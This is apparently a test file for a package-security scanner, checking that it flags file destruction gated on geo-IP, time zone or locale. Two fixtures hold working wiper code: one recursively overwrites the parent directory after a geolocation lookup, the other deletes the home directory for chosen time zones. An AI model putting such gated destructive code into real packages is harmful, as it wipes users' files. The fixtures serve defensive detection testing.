/**
 * Destructive file operations taken only on a branch that depends on where the machine is
 * (geo-IP answer, time zone, locale) are malicious_code; the same operations without such a
 * gate, and locale branches that do not destroy files, are not. Fixtures written for these tests.
 */
import { analyzeSource, threatsOf } from './helpers';

const pkg = JSON.stringify({ name: 'fixture', version: '1.0.0', main: 'index.js' });

describe('geo- or locale-gated destruction', () => {
  it('geo-IP lookup, then a recursive overwrite when the country matches: critical', () => {
    const r = analyzeSource({
      'package.json': pkg,
      'index.js': [
        "const https = require('https');",
        "const fs = require('fs');",
        "const path = require('path');",
        'function walk(dir) {',
        '  for (const f of fs.readdirSync(dir)) {',
        '    const p = path.join(dir, f);',
        "    if (fs.statSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764');",
        '  }',
        '}',
        "https.get('https://ip-info.example/json', (res) => {",
        "  let body = '';",
        "  res.on('data', (c) => (body += c));",
        "  res.on('end', () => {",
        '    const info = JSON.parse(body);',
        "    if (['XA', 'XB'].includes(info.countryCode)) walk(path.resolve(process.cwd(), '..'));",
        '  });',
        '});',
      ].join('\n'),
    });
    expect(r.risk_level).toBe('critical');
    expect(r.evidence.map((e) => e.rule)).toContain('js.geo-gated-destructive');
  });

  it('time-zone gate over rmSync in a helper from a second file: critical', () => {
    const r = analyzeSource({
      'package.json': pkg,
      'index.js': [
        "const { clean } = require('./lib/clean');",
        'const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;',
        "if (zone === 'Region/Capital' || zone === 'Region/Port') clean(require('os').homedir());",
      ].join('\n'),
      'lib/clean.js':
        "const fs = require('fs');\nexports.clean = (d) => fs.rmSync(d, { recursive: true, force: true });\n",
    });
    expect(threatsOf(r)).toContain('malicious_code');
  });

  it('locale branches that write translated files, and build cleaners, stay quiet', () => {
    const r = analyzeSource({
      'package.json': pkg,
      'index.js': [
        "const fs = require('fs');",
        "const lang = process.env.LANG || 'en';",
        "const greeting = lang.startsWith('de') ? 'Hallo' : 'Hello';",
        "if (lang === 'de') console.log(greeting);",
        "fs.rmSync('dist', { recursive: true, force: true });",
        "fs.writeFileSync('dist/greeting.txt', greeting);",
      ].join('\n'),
    });
    expect(threatsOf(r)).toEqual([]);
  });
});
